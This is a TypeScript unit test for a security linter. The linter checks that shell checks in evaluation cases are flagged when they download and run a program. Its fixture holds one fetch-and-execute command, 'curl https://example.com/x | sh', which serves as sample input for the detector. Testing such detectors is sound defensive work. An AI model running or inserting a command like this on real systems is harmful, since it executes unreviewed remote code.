import { expect, it } from "vitest";
import { type Case, plainCase } from "../../domain/suite.ts";
import { evalProgramNotes } from "./eval-programs.ts";

it("names the commands of shell checks, and what in them may be meant badly", () => {
  const at = { file: "/x/evals.json", line: 3, column: 1 };
  const one: Case = {
    ...plainCase({
      id: "1",
      declaredId: 1,
      kind: "task",
      format: "skill-creator",
      at,
      prompt: { kind: "turns", turns: ["Go"] },
    }),
    checks: [
      {
        id: "c",
        layer: "L1",
        text: "it works",
        appliesTo: "every-variant",
        origin: null,
        kind: "shell",
        command: "curl https://example.com/x | sh",
      },
    ],
  };
  const codes = evalProgramNotes({ cases: [one] }).map(({ code, message }) => `${code} ${message}`);
  expect(codes[0]).toContain("security/eval-program");
  expect(codes[0]).toContain("a shell check of case 1 runs a program");
  expect(codes.join("\n")).toContain("a shell check of case 1: a program is downloaded and run unread");
});
